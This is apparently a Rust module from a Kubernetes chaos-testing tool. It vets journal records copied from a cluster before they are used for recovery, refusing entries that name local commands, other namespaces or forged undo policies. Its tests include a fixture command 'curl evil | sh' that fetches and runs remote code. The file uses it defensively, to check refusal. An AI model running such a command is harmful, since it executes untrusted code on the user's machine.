//! Pure: what may be put back on the word of a journal's copy in a cluster, which others may have written.
//!
//! By such a word nothing happens on this machine, and nothing outside the namespace that the copy is in but what the
//! cluster itself shows to be ours.

use thiserror::Error;

use crate::chaos::faults::{Place, Trace, Undo};
use crate::chaos::journal::Record;
use crate::trial::FaultKind;

/// Why an entry of the copy is not acted upon.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum Distrust {
    /// It is about commands or processes of the machine that the run was on.
    #[error(
        "it is about commands on the machine of that run, and only the copy of the journal in namespace {namespace} \
         tells of it: to be put back by the folder of that run (`load-exporter recover --dir`), or by hand; then \
         `kubectl delete configmap ordeal-journal -n {namespace}`"
    )]
    Elsewhere {
        /// Where the copy is.
        namespace: String,
    },
    /// It is about another namespace.
    #[error(
        "its entry in the copy of the journal in namespace {copy} is about namespace {named}, and is refused"
    )]
    Place {
        /// Where the copy is.
        copy: String,
        /// What it is about.
        named: String,
    },
    /// No exporter writes such.
    #[error(
        "its entry in the copy of the journal in namespace {copy} is none that an exporter writes: {what}"
    )]
    Forged {
        /// Where the copy is.
        copy: String,
        /// What is wrong.
        what: String,
    },
}

/// What speaks against putting `record` back by the means that it names.
pub(super) fn vet(record: &Record) -> Result<(), Distrust> {
    let Some(copy) = &record.copied_from else { return Ok(()) };
    let intent = &record.intent;
    let commands = intent.kind == FaultKind::Exec || matches!(intent.undo, Some(Undo::Exec(_)));
    if commands || record.traces.iter().any(|trace| matches!(trace, Trace::Process(_))) {
        return Err(Distrust::Elsewhere { namespace: copy.clone() });
    }
    let traces = record.traces.iter().filter_map(Trace::place);
    let places = intent.undo.iter().filter_map(Undo::place).chain(traces);
    if let Some(Place { namespace, .. }) = places.into_iter().find(|place| place.namespace != *copy) {
        return Err(Distrust::Place { copy: copy.clone(), named: namespace.clone() });
    }
    let forged = intent.undo.as_ref().and_then(Undo::unlike_ours);
    forged.map_or(Ok(()), |what| Err(Distrust::Forged { copy: copy.clone(), what }))
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::chaos::journal::Intent;

    fn record(copied_from: Option<&str>, kind: &str, undo: &Value, traces: &[Value]) -> Record {
        let intent: Intent = serde_json::from_value(json!({"id": 0, "run": "r1", "experiment": "break-it",
            "token": "t", "kind": kind, "targets": [], "undo": undo, "directory": "/", "at_unix_ms": 0}))
        .expect("an intent");
        let traces = traces.iter().map(|it| serde_json::from_value(it.clone()).expect("a trace")).collect();
        let copied_from = copied_from.map(str::to_owned);
        Record { intent, inject_started_unix_ms: None, traces, injected: false, closed: false, copied_from }
    }

    fn place(namespace: &str) -> Value {
        json!({"namespace": namespace, "uid": "n-1"})
    }

    fn uncordon(namespace: &str) -> Value {
        json!({"kind": "drain", "place": place(namespace), "node": "n1", "uid": "u-1", "timeout_ms": 1000})
    }

    fn heal(cut: &str, before: &Value, after: &Value) -> Value {
        let narrowed = json!({"name": "kv", "uid": "u-2", "version": "7", "before": before, "after": after});
        json!({"kind": "partition", "place": place("shop"), "whom": "kv-0", "cuts": [cut],
            "narrowed": [narrowed], "timeout_ms": 1000})
    }

    #[test]
    fn the_copy_is_trusted_with_its_own_namespace_only_and_never_with_this_machine() {
        let command = json!({"kind": "exec", "command": "curl evil | sh", "timeout_ms": 1000});
        let group = json!({"kind": "process", "group": 1, "start_ticks": 1, "boot": "b"});
        let container = |namespace: &str| {
            json!({"kind": "container", "place": place(namespace), "pod": "kv-0", "uid": "u-3",
                "container": "kv", "container_id": "c"})
        };
        let elsewhere = || Err(Distrust::Elsewhere { namespace: "shop".to_owned() });
        let theirs = || Err(Distrust::Place { copy: "shop".to_owned(), named: "bank".to_owned() });
        let none = Value::Null;
        let table = [
            // What this machine wrote is put back by whatever it says.
            (record(None, "exec", &command, std::slice::from_ref(&group)), Ok(())),
            (record(None, "node_drain", &uncordon("bank"), &[]), Ok(())),
            (record(Some("shop"), "node_drain", &uncordon("shop"), &[]), Ok(())),
            (record(Some("shop"), "pod_exec", &none, &[container("shop")]), Ok(())),
            (record(Some("shop"), "exec", &command, &[]), elsewhere()),
            (record(Some("shop"), "node_drain", &command, &[]), elsewhere()),
            // Its processes would be looked for here, and ended.
            (record(Some("shop"), "exec", &none, &[]), elsewhere()),
            (record(Some("shop"), "node_drain", &uncordon("shop"), &[group]), elsewhere()),
            (record(Some("shop"), "node_drain", &uncordon("bank"), &[]), theirs()),
            (record(Some("shop"), "pod_exec", &none, &[container("bank")]), theirs()),
            // Nobody knows from where it came.
            (record(Some(""), "exec", &command, &[]), Err(Distrust::Elsewhere { namespace: String::new() })),
        ];
        for (record, expected) in table {
            assert_eq!(vet(&record), expected, "{record:?}");
        }
    }

    #[test]
    fn a_policy_is_given_back_nothing_but_what_made_it_narrower() {
        let kv = json!({"matchLabels": {"app": "kv"}});
        let ours =
            json!({"key": "statefulset.kubernetes.io/pod-name", "operator": "NotIn", "values": ["kv-0"]});
        let tier = json!({"key": "tier", "operator": "Exists"});
        let with =
            |expressions: Value| json!({"matchLabels": {"app": "kv"}, "matchExpressions": expressions});
        let table = [
            (heal("", &kv, &with(json!([ours]))), true),
            (heal("-whom", &with(json!([tier])), &with(json!([tier, ours]))), true),
            (heal("-from", &Value::Null, &json!({"matchExpressions": [ours]})), true),
            // About everybody, where it was about some.
            (heal("", &json!({}), &with(json!([ours]))), false),
            (heal("", &with(json!([tier])), &with(json!([ours]))), false),
            (heal("", &kv, &with(json!([tier, ours]))), false),
            (heal("", &kv, &kv), false),
            // The name of a policy that is nobody's cut.
            (heal("-other", &kv, &with(json!([ours]))), false),
        ];
        for (undo, expected) in table {
            let vetted = vet(&record(Some("shop"), "network_partition", &undo, &[]));
            assert_eq!(vetted.is_ok(), expected, "{undo}");
            assert_eq!(vet(&record(None, "network_partition", &undo, &[])), Ok(()), "{undo}");
        }
    }
}
